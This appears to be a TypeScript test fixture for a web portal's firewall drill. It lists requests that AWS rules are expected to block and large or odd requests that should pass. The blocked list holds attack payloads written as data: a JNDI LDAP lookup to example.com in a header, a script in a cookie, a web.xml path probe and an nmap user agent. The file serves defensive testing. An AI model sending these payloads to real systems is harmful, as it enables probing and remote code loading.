import { randomUUID } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { FILTER_LENGTH } from '#contract/definition/filter.ts';
import type { Route } from '#contract/route.ts';
import { contract } from '#contract/routes.ts';
import { ADDRESS_MAX, QUERY_HEADER } from '#contract/site/request-headers.ts';
import { FALSE_POSITIVES, largestOf } from './largest-request.ts';

/** A request of the drill. Without a valid token, so that the portal refuses it before it reads or writes anything. */
export interface EdgeRequest {
  /** What it is, for the line that the operator reads. */
  readonly is: string;
  readonly method: string;
  /** With its query. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: string;
}

/** A call that needs a token and changes nothing. */
const CALL = '/user';

const refusal = (is: string, path: string, headers: Readonly<Record<string, string>> = {}): EdgeRequest => ({
  is,
  method: 'GET',
  path,
  headers,
});

/**
 * What AWS's rules refuse by path, query, cookie or header, by the examples of their documentation. Fewer than raise the
 * alarm "The firewall refuses requests".
 */
export const refusals: readonly EdgeRequest[] = [
  refusal('an exploitable path', '/api/web-inf/web.xml'),
  refusal('a path to a settings file', '/api/settings.ini'),
  refusal('a query of 2,100 bytes', `${CALL}?q=${'a'.repeat(2_098)}`),
  refusal('a script in a cookie', CALL, { cookie: 'note=<script>alert("hello")</script>' }),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what such an attack sends
  refusal('a lookup of JNDI in a header', CALL, { referer: '${jndi:ldap://example.com/}' }),
  refusal('a scanner', CALL, { 'user-agent': 'nmap' }),
];

/** As long as those of Cognito. */
const TOKEN = 't'.repeat(1_400);

const allowed = (is: string, { method, path }: Route, sent: Partial<EdgeRequest> = {}): EdgeRequest => ({
  is,
  method,
  path,
  ...sent,
  headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json', ...sent.headers },
});

const inQuery = ({ path }: Route, field: string, text: string) =>
  `${path}?${new URLSearchParams({ page: '0', [field]: text })}`;

/** A filter as long as one may be, packed as the pages do it. */
const packedFilter = () => {
  const fits = Math.floor((FILTER_LENGTH - 100) / (randomUUID().length + 3));
  const values = Array.from({ length: fits }, () => randomUUID());
  const query = new URLSearchParams({ filter: JSON.stringify({ field: 'resellerCompanyId', is: 'oneOf', values }) });
  return deflateRawSync(query.toString()).toString('base64url');
};

const bodyOf = ({ body }: Route) => JSON.stringify(largestOf(body) ?? {});

/** What the portal allows and a rule may take for an attack: the largest requests, and texts as people write them. */
export const allowedRequests = (): readonly EdgeRequest[] => {
  const { search, create } = contract.reseller;
  const { create: largest } = contract.techProvider;
  const text = FALSE_POSITIVES.slice(0, 200);
  const long = inQuery(search, 'searchText', '');
  return [
    allowed('a form whose texts look like attacks', create, { body: bodyOf(create) }),
    allowed('a search for such a text', search, { path: inQuery(search, 'searchText', text) }),
    allowed('the longest address', search, { path: long.padEnd(ADDRESS_MAX - 1, 'a') }),
    allowed('the longest filter', search, { headers: { [QUERY_HEADER]: packedFilter() } }),
    allowed('a form of a megabyte', largest, { body: bodyOf(largest) }),
  ];
};
